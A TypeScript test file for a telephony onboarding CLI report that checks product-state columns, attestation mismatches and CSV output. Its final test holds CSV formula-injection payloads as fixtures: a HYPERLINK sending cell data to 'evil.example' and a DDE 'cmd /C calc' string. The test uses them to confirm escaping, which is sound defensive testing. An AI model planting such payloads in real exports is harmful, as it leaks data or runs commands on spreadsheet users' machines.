/**
 * `trusthub-onboarding report` from records as the API answers them (src/cli/report.ts): per number,
 * its state in each of the customer's products with the reason, the attestation Twilio observed on a
 * call and when, and what the service found when that differed from the one it infers. No API: the
 * client is a stand-in that answers the list and the records, so this is the rendering alone.
 */
import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { parse } from 'csv-parse/sync';
import type { ApiClient, OnboardingSummary, OnboardingView } from '../../src/cli/api-client.js';
import { HEADER, numberRows, report } from '../../src/cli/report.js';

const PN = (n: number) => `PN${String(n).repeat(32)}`;

/** A serving customer with all three products: one US local number, one Canadian. */
const acme: OnboardingView = {
  id: 'onboarding-acme-dental',
  customerId: 'acme-dental',
  status: 'completed',
  step: 'serving',
  phoneNumbers: [
    {
      input: '+14155550100',
      sid: PN(1),
      phoneNumber: '+14155550100',
      attestation: 'A',
      blockedBy: null,
      products: {
        'shaken-stir': { state: 'active', reason: null },
        'voice-integrity': { state: 'active', reason: null },
        cnam: { state: 'pending', reason: null },
      },
      observedAttestation: { level: 'A', at: '2026-11-30T07:05:41.212Z', callSid: `CA${'1'.repeat(32)}` },
      attestationMismatch: null,
    },
    {
      input: '+16135550100',
      sid: PN(2),
      phoneNumber: '+16135550100',
      attestation: 'B',
      blockedBy: 'not on the SHAKEN/STIR trust product',
      products: {
        'shaken-stir': { state: 'not-assigned', reason: 'taken off in the Console' },
        'voice-integrity': { state: 'active', reason: null },
        cnam: { state: 'ineligible', reason: 'CNAM takes US numbers only, not Canadian' },
      },
      observedAttestation: { level: 'B', at: '2026-11-30T08:00:00.000Z', callSid: `CA${'2'.repeat(32)}` },
      attestationMismatch: {
        observed: 'B',
        inferred: 'A',
        at: '2026-11-30T08:00:00.000Z',
        cause: 'drift',
        detail: 'the number was taken off the SHAKEN/STIR trust product outside the service; put back',
      },
    },
  ],
};

/** A customer from before the products: its numbers carry none of the new fields. */
const cedar: OnboardingView = {
  id: 'onboarding-cedar-law',
  customerId: 'cedar-law',
  status: 'running',
  step: 'waiting-for-customer-profile-vetting',
  phoneNumbers: [
    {
      input: '+14155550103',
      sid: PN(3),
      phoneNumber: '+14155550103',
      attestation: 'B',
      blockedBy: 'customer profile in review',
    },
  ],
};

const column = (row: string[], name: string) => row[HEADER.indexOf(name)];

describe('report rows', () => {
  test("each product's state, with the reason when there is one", () => {
    const [us, canadian] = numberRows('acme-dental', acme);
    assert.deepEqual(
      ['shakenStir', 'voiceIntegrity', 'cnam'].map((name) => column(us!, name)),
      ['active', 'active', 'pending'],
    );
    assert.deepEqual(
      ['shakenStir', 'voiceIntegrity', 'cnam'].map((name) => column(canadian!, name)),
      [
        'not-assigned: taken off in the Console',
        'active',
        'ineligible: CNAM takes US numbers only, not Canadian',
      ],
    );
  });

  test('the observed attestation, when, and the cause of a mismatch', () => {
    const [us, canadian] = numberRows('acme-dental', acme);
    assert.deepEqual(
      ['attestation', 'observedAttestation', 'observedAt', 'mismatch'].map((name) => column(us!, name)),
      ['A', 'A', '2026-11-30T07:05:41.212Z', ''],
    );
    assert.equal(column(canadian!, 'observedAttestation'), 'B');
    assert.equal(
      column(canadian!, 'mismatch'),
      'drift: observed B, inferred A; the number was taken off the SHAKEN/STIR trust product outside the service; put back',
    );
  });

  test('a record without products or observations leaves those cells empty', () => {
    const [row] = numberRows('cedar-law', cedar);
    assert.equal(row!.length, HEADER.length);
    assert.deepEqual(
      ['shakenStir', 'voiceIntegrity', 'cnam', 'observedAttestation', 'observedAt', 'mismatch'].map((name) =>
        column(row!, name),
      ),
      ['', '', '', '', '', ''],
    );
    const [none] = numberRows('cedar-law', { ...cedar, phoneNumbers: [] });
    assert.equal(none!.length, HEADER.length);
    assert.equal(column(none!, 'blockedBy'), 'phone numbers not resolved yet');
  });
});

describe('report output', () => {
  /** Answers the list and each record, as the API would. */
  const api = {
    async *onboardings(): AsyncGenerator<OnboardingSummary> {
      for (const view of [cedar, acme]) {
        yield {
          id: view.id,
          customerId: view.customerId,
          status: view.status,
          step: view.step,
          startedAt: '',
        };
      }
      yield {
        id: 'onboarding-gone',
        customerId: 'gone',
        status: 'failed',
        step: 'done',
        startedAt: '',
      };
    },
    async request(_method: string, path: string) {
      const view = [acme, cedar].find((v) => path === `/v1/onboardings/${v.id}`);
      return view ? { status: 200, body: view } : { status: 404, body: undefined };
    },
  } as unknown as ApiClient;

  async function run(csv: boolean): Promise<string> {
    let text = '';
    assert.equal(await report(api, { csv, concurrency: 2 }, (out) => (text += out)), 0);
    return text;
  }

  test('--csv: one row per number, sorted by customer and number, the new columns named', async () => {
    const rows = parse<Record<string, string>>(await run(true), { columns: true });
    assert.deepEqual(
      rows.map((r) => [r.customerId, r.phoneNumber, r.cnam, r.observedAttestation]),
      [
        // E.164 starts with `+`, which a spreadsheet reads as a formula: prefixed (see the next test).
        ['acme-dental', "'+14155550100", 'pending', 'A'],
        ['acme-dental', "'+16135550100", 'ineligible: CNAM takes US numbers only, not Canadian', 'B'],
        ['cedar-law', "'+14155550103", '', ''],
        ['gone', '', '', ''],
      ],
    );
    assert.equal(rows[3]!.blockedBy, 'state unavailable (HTTP 404)');
  });

  test('the table: the same cells under the same header, aligned', async () => {
    const lines = (await run(false)).split('\n');
    assert.match(
      lines[0]!,
      /^customerId +onboardingId +.* +shakenStir +voiceIntegrity +cnam +observedAttestation +observedAt +mismatch$/,
    );
    assert.match(lines[1]!, /^-+( +-+)+$/);
    const canadian = lines.find((line) => line.includes('+16135550100'))!;
    assert.match(
      canadian,
      / not-assigned: taken off in the Console +active +ineligible: CNAM takes US numbers only, not Canadian +B +2026-11-30T08:00:00\.000Z +drift: observed B, inferred A;/,
    );
    assert.equal(lines.length, 2 + 4);
  });

  test('--csv: a cell that would run as a formula in a spreadsheet is written as text', async () => {
    const link = '=HYPERLINK("https://evil.example/?"&A1,"Fix your profile")';
    const hostile: OnboardingView = {
      ...cedar,
      phoneNumbers: [
        { ...cedar.phoneNumbers[0]!, phoneNumber: '@SUM(1+1)*cmd|" /C calc"!A0', blockedBy: link },
      ],
    };
    const hostileApi = {
      async *onboardings(): AsyncGenerator<OnboardingSummary> {
        yield { id: hostile.id, customerId: 'cedar-law', status: 'running', step: 'serving', startedAt: '' };
        // A record the API cannot answer for: its line is built from the listing's own cells.
        yield { id: 'onboarding-gone', customerId: 'gone', status: '-2+3', step: '+cmd', startedAt: '' };
      },
      async request(_method: string, path: string) {
        return path === `/v1/onboardings/${hostile.id}`
          ? { status: 200, body: hostile }
          : { status: 404, body: undefined };
      },
    } as unknown as ApiClient;
    let text = '';
    assert.equal(await report(hostileApi, { csv: true, concurrency: 1 }, (out) => (text += out)), 0);
    const rows = parse<Record<string, string>>(text, { columns: true });
    assert.equal(rows[0]!.blockedBy, `'${link}`);
    assert.equal(rows[0]!.phoneNumber, `'@SUM(1+1)*cmd|" /C calc"!A0`);
    assert.deepEqual([rows[1]!.status, rows[1]!.step], ["'-2+3", "'+cmd"]);
    // No cell of the sheet starts a formula.
    for (const row of rows) {
      for (const cell of Object.values(row)) assert.doesNotMatch(cell, /^[=+\-@\t\r]/, cell);
    }
  });
});
